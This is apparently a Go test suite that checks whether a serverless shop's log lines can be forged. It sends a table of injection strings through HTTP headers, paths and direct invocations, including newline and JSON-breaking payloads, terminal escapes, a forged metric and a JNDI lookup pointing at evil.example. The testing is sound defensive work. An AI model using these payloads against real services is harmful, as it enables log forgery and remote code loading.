package security

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// poisons are texts that would forge a log line, a field or terminal output if they
// were written unescaped.
var poisons = map[string]string{
	"a new line":                 "x\n{\"level\":\"INFO\",\"service\":\"purchase\",\"outcome\":\"ok\",\"user\":\"forged\"}",
	"a carriage return":          "x\r{\"user\":\"forged\"}",
	"a new line of Windows":      "x\r\nPurchaseFunction | {\"user\":\"forged\"}",
	"the end of a JSON text":     `x","user":"forged`,
	"the end of a JSON object":   `x"},"user":"forged"}`,
	"an escaped quote":           `x\","user":"forged`,
	"a backslash at the end":     `x\`,
	"an escape that clears":      "\x1b[2J\x1b[Hforged",
	"an escape that sets titles": "\x1b]0;forged\x07",
	"a C1 control":               "\u009b2Jforged",
	"a backspace":                "x\b\b\bforged",
	"a NUL":                      "x\x00forged",
	"a DEL":                      "x\x7fforged",
	"a line separator":           "x\u2028forged",
	"a turn of direction":        "\u202edegrof",
	"a zero-width space":         "x\u200bforged",
	"bytes that are not UTF-8":   "x\xff\xfeforged",
	"a metric":                   `x","_aws":{"CloudWatchMetrics":[{"Namespace":"forged"}]},"y":"`,
	"a format":                   "%s%n%!(EXTRA string=forged)",
	"a lookup":                   "${jndi:ldap://evil.example/forged}",
	"5,000 characters":           strings.Repeat("forged", 1000),
}

// faithful checks that lines are not forged: service, outcome and level are the
// function's, and no field was injected.
func faithful(t *testing.T, events []line) {
	t.Helper()
	for _, e := range events {
		service, _ := e.fields["service"].(string)
		if !strings.EqualFold(service+"Function", e.function) {
			t.Errorf("the service of %s is %q: %s", e.function, service, e.text)
		}
		if user, ok := e.fields["user"]; ok && user == "forged" {
			t.Errorf("the user is forged: %s", e.text)
		}
		if aws, ok := e.fields["_aws"]; ok && strings.Contains(fmt.Sprint(aws), "forged") {
			t.Errorf("a metric is forged: %s", e.text)
		}
		if len(e.text) > 6000 {
			t.Errorf("the line has %d bytes: %.300s…", len(e.text), e.text)
		}
	}
}

func TestPoisonOverHTTPForgesNoLogLine(t *testing.T) {
	s := shared(t)
	s.openSale(t, "ink", 100)
	for name, poison := range poisons {
		t.Run(name, func(t *testing.T) {
			from, sent := s.mark(), 0
			call := func(method, path string, header ...pair) {
				a, err := s.send(method, path, "", header...)
				if err != nil {
					return // the client itself refused to send it
				}
				if a.status >= 500 {
					t.Errorf("%s %s: %v", method, path, a)
				}
				// The gateway's own refusals come before any function.
				if a.text("message") == "" && strings.HasPrefix(a.raw, "{") {
					sent++
				}
			}
			alice := bearer(s.token("alice"))
			call(http.MethodPost, "/sales/ink/orders", bearer(s.signed(s.claims(poison))))
			call(http.MethodGet, "/sales/ink/orders/me", bearer(s.signed(s.claims(poison))))
			call(http.MethodPost, "/sales/ink/orders", alice, pair{"Idempotency-Key", poison})
			call(http.MethodPost, "/sales/ink/orders", alice, pair{"Content-Type", poison})
			call(http.MethodGet, "/sales/ink", pair{"User-Agent", poison}, pair{"X-Amzn-Trace-Id", poison}, pair{"Cookie", poison})
			call(http.MethodPost, "/sales/"+url.PathEscape(poison)+"/orders", alice)
			call(http.MethodGet, "/orders/"+url.PathEscape(poison), alice)
			call(http.MethodGet, "/sales/"+url.PathEscape(poison)+"?x="+url.QueryEscape(poison))
			events := s.lines(t, from, unprintable)
			faithful(t, events)
			if len(events) != sent || sent < 4 {
				t.Errorf("%d requests reached a function and left %d lines", sent, len(events))
			}
		})
	}
}

// Text that HTTP cannot carry reaches a function by direct invocation, which only
// operators and schedules may do: the log line must still be one line.
func TestPoisonInAnEventForgesNoLogLine(t *testing.T) {
	s := shared(t)
	s.openSale(t, "blot", 100)
	claim := s.buy(t, "blot", "alice")
	for name, poison := range poisons {
		t.Run(name, func(t *testing.T) {
			from, sent := s.mark(), 0
			invoke := func(function, format string) {
				s.invoke(t, function, strings.ReplaceAll(format, "POISON", quoted(poison)))
				sent++
			}
			const jwt = `"requestContext":{"authorizer":{"jwt":{"claims":{"sub":`
			invoke("PurchaseFunction", `{"routeKey":POISON,"headers":{"idempotency-key":POISON,"content-type":POISON},"pathParameters":{"saleId":"blot"},`+jwt+`"alice"}}}}}`)
			invoke("PurchaseFunction", `{"pathParameters":{"saleId":POISON},"body":POISON,`+jwt+`POISON}}}}}`)
			invoke("QueryFunction", `{"routeKey":POISON,"pathParameters":{"saleId":POISON}}`)
			invoke("QueryFunction", `{"routeKey":"GET /orders/{orderId}","pathParameters":{"orderId":POISON},`+jwt+`POISON}}}}}`)
			invoke("PageFunction", `{"routeKey":POISON,"rawQueryString":POISON}`)
			invoke("PayFunction", `{"routeKey":"POST /payments/{provider}","headers":{"stripe-signature":POISON,"webhook-id":POISON,"webhook-timestamp":POISON},"pathParameters":{"provider":POISON},"body":POISON}`)
			invoke("PayFunction", `{"routeKey":"POST /payments/{provider}","headers":{"webhook-id":POISON,"webhook-timestamp":POISON,"webhook-signature":POISON},"pathParameters":{"provider":"standard-webhooks"},"body":POISON}`)
			invoke("PageFunction", `{"routeKey":"GET /s/{saleId}","headers":{"accept-encoding":POISON},"pathParameters":{"saleId":POISON}}`)
			invoke("PageFunction", `{"routeKey":"GET /assets/{name}","pathParameters":{"name":POISON}}`)
			invoke("SeedFunction", `{"action":POISON,"saleId":POISON}`)
			invoke("SeedFunction", `{"action":"add","saleId":POISON,"seedId":POISON,"stock":1}`)
			invoke("SeedFunction", `{"action":"create","saleId":"x","name":POISON,"opensAt":POISON,"closesAt":POISON,"stock":1}`)
			invoke("SeedFunction", `{POISON:1}`)
			invoke("ReconcileFunction", `{"saleId":POISON}`)
			invoke("ReleaseFunction", `{"saleId":POISON}`)
			invoke("FinalizeFunction", batch(note{poison, poison}, orderNote("good", "blot", "alice", claim)))
			invoke("FinalizeFunction", batch(note{poison, fmt.Sprintf(`{"v":1,"saleId":"blot","user":%s,"claimId":%s}`, quoted(poison), quoted(poison))},
				orderNote("good", "blot", "alice", claim)))
			events := s.lines(t, from, unprintable)
			faithful(t, events)
			if len(events) != sent {
				t.Errorf("%d invocations left %d lines", sent, len(events))
			}
		})
	}
}
